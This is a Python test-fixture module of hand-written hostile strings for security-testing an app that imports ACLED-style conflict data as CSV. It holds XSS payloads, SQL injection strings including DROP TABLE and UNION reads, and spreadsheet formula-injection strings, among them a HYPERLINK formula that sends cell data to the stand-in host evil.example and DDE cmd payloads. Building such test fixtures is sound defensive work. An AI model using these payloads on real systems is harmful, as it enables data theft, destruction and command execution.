"""Hostile strings used by the security tests (written here by hand, no real data)."""

from __future__ import annotations

import csv
import io

# Each sets window.__pwned to a distinct number if it ever runs.
XSS = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    '"><svg onload=window.__pwned=3>',
    "javascript:window.__pwned=4",
    "</title><script>window.__pwned=5</script>",
    "{{constructor.constructor('window.__pwned=6')()}}",
    '<a href="javascript:window.__pwned=7">click</a>',
    "' onmouseover='window.__pwned=8' x='",
    "\u202e<b onclick=window.__pwned=9>gnirts</b>\u200b",
    '<iframe srcdoc="<script>parent.__pwned=10</script>"></iframe>',
)

SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "'; DROP TABLE events; --",
    "1; DELETE FROM documents",
    "%' UNION SELECT name, sql, 1, 1, 1, 1, 1 FROM sqlite_master --",
    "Mali' AND (SELECT COUNT(*) FROM api_keys) > 0 --",
    "\\'; SELECT pg_sleep(5); --",
    "') OR ('a'='a",
    "%",
    "_",
    "\x00' OR 1=1",
)

FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)

ACLED_HEADER = ("event_id_cnty", "event_date", "year", "disorder_type", "event_type", "sub_event_type", "actor1",
                "assoc_actor_1", "inter1", "actor2", "assoc_actor_2", "inter2", "interaction", "country", "admin1",
                "admin2", "location", "latitude", "longitude", "geo_precision", "source", "notes", "fatalities")


def hostile_acled_csv(strings: tuple[str, ...] = XSS + FORMULAS, country: str = "Burkina Faso") -> bytes:
    """An ACLED-style export whose actor names, places, sources and notes are hostile strings."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(ACLED_HEADER)
    for i, s in enumerate(strings, start=1):
        w.writerow([f"BFO9{i:04d}", f"2019-02-{(i % 27) + 1:02d}", "2019", "Political violence", "Battles",
                    "Armed clash", s, s, "2", f"Military Forces of {s}", "", "1", "12", country, s, s, s,
                    f"{13.5 + i / 100:.4f}", f"{-1.5 + i / 100:.4f}", "1", s, f"Notes: {s}", str(i)])
    return buf.getvalue().encode("utf-8")
